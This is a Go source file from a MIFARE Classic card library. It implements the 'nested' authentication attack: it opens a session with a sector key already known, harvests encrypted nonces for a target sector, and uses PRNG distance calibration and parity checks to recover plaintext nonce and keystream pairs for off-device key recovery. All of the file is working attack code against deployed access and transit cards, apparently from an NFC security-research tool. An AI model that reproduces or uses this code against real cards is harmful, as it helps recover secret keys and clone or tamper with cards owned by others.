package mfclassic

import (
	"context"
	"fmt"
	"log/slog"
)

// NestedRequest asks for two encrypted nonces of a target slot, using a key
// known for another slot to open the session.
type NestedRequest struct {
	Known         KeyRef
	TargetBlock   uint8
	TargetKeyType KeyType
	// Calibrate forces a new distance calibration. A session that was never
	// calibrated is calibrated regardless.
	Calibrate bool
	// Slow inserts the pre-authentication lead time after every select.
	Slow bool
}

// NonceSample is one disambiguated target nonce and its keystream.
type NonceSample struct {
	Nonce     uint32 // plaintext target nonce
	Keystream uint32 // nonce ^ encrypted nonce
	Distance  uint32 // PRNG steps from the known-slot nonce
}

// NestedResult is what the host needs to finish key recovery off-device.
type NestedResult struct {
	Status        Status
	CUID          uint32
	Samples       [2]NonceSample
	TargetBlock   uint8
	TargetKeyType KeyType
	Window        DistanceWindow
}

// Nested calibrates when needed and harvests two nonce samples for the
// target slot. The field is switched off when it returns.
func (e *Engine) Nested(ctx context.Context, sess *Session, req NestedRequest) (*NestedResult, error) {
	if sess == nil {
		return nil, ErrNoSession
	}
	defer e.rd.FieldOff()

	e.traceStart(req.Calibrate)
	defer e.traceStop()

	if req.Calibrate || !sess.Calibrated() {
		if _, err := e.Calibrate(ctx, sess, req.Known, req.Slow); err != nil {
			return &NestedResult{
				Status:        StatusOf(err),
				TargetBlock:   req.TargetBlock,
				TargetKeyType: req.TargetKeyType,
			}, err
		}
	}
	return e.HarvestNested(ctx, sess, req)
}

// HarvestNested collects exactly two unambiguous and distinct nonce samples
// for the target slot using the calibrated window in sess. Card errors and
// rejected samples are retried until ctx is cancelled.
func (e *Engine) HarvestNested(ctx context.Context, sess *Session, req NestedRequest) (*NestedResult, error) {
	nr, ok := e.rd.(NonceReader)
	if !ok {
		return nil, ErrNestedUnsupported
	}
	if sess == nil {
		return nil, ErrNoSession
	}
	if !sess.Calibrated() {
		return nil, ErrNotCalibrated
	}

	res := &NestedResult{
		TargetBlock:   req.TargetBlock,
		TargetKeyType: req.TargetKeyType,
		Window:        sess.Window(),
	}

	for i := 0; i < 2; i++ {
		for {
			if cancelled(ctx) {
				res.Status = StatusCancelled
				return res, ErrCancelled
			}
			sample, ok, err := e.nestedAttempt(nr, sess, req, res.Samples[:i])
			if err != nil {
				slog.Debug("nested attempt retry", "nonce", i+1, "error", err)
				continue
			}
			if ok {
				res.Samples[i] = sample
				break
			}
		}
	}

	res.CUID = sess.Card.CUID
	res.Status = StatusSuccess
	slog.Info("nested nonces acquired",
		"cuid", fmt.Sprintf("%08X", res.CUID),
		"nt0", fmt.Sprintf("%08X", res.Samples[0].Nonce),
		"ks0", fmt.Sprintf("%08X", res.Samples[0].Keystream),
		"nt1", fmt.Sprintf("%08X", res.Samples[1].Nonce),
		"ks1", fmt.Sprintf("%08X", res.Samples[1].Keystream))
	return res, nil
}

// nestedAttempt runs one known-slot auth plus nested target request and
// walks the distance window. It reports ok=false for ambiguous samples and
// for a sample equal to an earlier one.
func (e *Engine) nestedAttempt(nr NonceReader, sess *Session, req NestedRequest, prev []NonceSample) (NonceSample, bool, error) {
	card, err := e.haltAndSelect(sess)
	if err != nil {
		return NonceSample{}, false, err
	}
	if req.Slow {
		e.leadTime()
	}

	r1, err := e.rd.Authenticate(AuthRequest{
		Block: req.Known.Block, KeyType: req.Known.KeyType, Key: req.Known.Key,
		Mode: AuthFirst, CUID: card.CUID,
	})
	if err != nil {
		return NonceSample{}, false, &AuthError{Step: "auth1", Block: req.Known.Block, KeyType: req.Known.KeyType, Cause: err}
	}

	enc, err := nr.NestedNonce(req.TargetBlock, req.TargetKeyType, r1.Time+sess.DeltaTime())
	if err != nil {
		return NonceSample{}, false, &AuthError{Step: "auth2", Block: req.TargetBlock, KeyType: req.TargetKeyType, Cause: err}
	}

	slog.Debug("nested: testing",
		"nonce", len(prev)+1,
		"nt1", fmt.Sprintf("%08X", r1.Nonce),
		"nt2enc", fmt.Sprintf("%08X", enc.Nonce),
		"nt2par", fmt.Sprintf("%02X", enc.Parity))

	sample, status := disambiguate(r1.Nonce, enc, sess.Window(), prev)
	switch status {
	case sampleAmbiguous:
		slog.Debug("nested: dismissed (ambiguous)", "nonce", len(prev)+1)
	case sampleDuplicate:
		slog.Debug("nested: dismissed (same as previous)", "nonce", len(prev)+1)
	case sampleNone:
		slog.Debug("nested: dismissed (all invalid)", "nonce", len(prev)+1)
	case sampleOK:
		slog.Debug("nested: valid", "nonce", len(prev)+1, "ntdist", sample.Distance)
		return sample, true, nil
	}
	return NonceSample{}, false, nil
}

type sampleStatus int

const (
	sampleNone sampleStatus = iota
	sampleOK
	sampleAmbiguous
	sampleDuplicate
)

// disambiguate walks every distance of w from the known-slot nonce nt1 and
// keeps the single plaintext guess that passes the parity check.
func disambiguate(nt1 uint32, enc *EncryptedNonce, w DistanceWindow, prev []NonceSample) (NonceSample, sampleStatus) {
	par := ParityFlags(enc.Nonce, enc.Parity)

	var (
		sample NonceSample
		found  bool
	)
	nt := PRNGSuccessor(nt1, w.Min-1)
	for d := w.Min; d <= w.Max; d++ {
		nt = PRNGSuccessor(nt, 1)
		ks := enc.Nonce ^ nt
		if !ValidNonce(nt, enc.Nonce, ks, par) {
			continue
		}
		if found {
			return NonceSample{}, sampleAmbiguous
		}
		for _, p := range prev {
			if p.Nonce == nt {
				return NonceSample{}, sampleDuplicate
			}
		}
		sample = NonceSample{Nonce: nt, Keystream: ks, Distance: d}
		found = true
	}
	if !found {
		return NonceSample{}, sampleNone
	}
	return sample, sampleOK
}
